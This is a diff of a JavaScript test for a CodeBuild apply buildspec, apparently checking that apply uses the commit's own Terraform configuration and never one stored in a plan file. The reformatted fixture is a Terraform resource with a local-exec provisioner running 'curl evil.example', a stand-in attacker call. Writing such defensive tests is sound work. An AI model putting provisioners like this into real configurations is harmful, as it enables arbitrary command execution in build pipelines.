@@ -60,7 +60,8 @@ describe('buildspecs/apply.yml in CodeBuild', () => {
   it('applies the commit’s own configuration, never one saved in the plan file, with the reviewed changes and digest', async () => {
     // Prepare: the plan build saved (and the bot recorded the digest of) a plan of a configuration with a provisioner
     const provisioned = standInPlanOf({
-      'main.tf': 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }\n}\n',
+      'main.tf':
+        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }\n}\n',
     });
 
     // Act
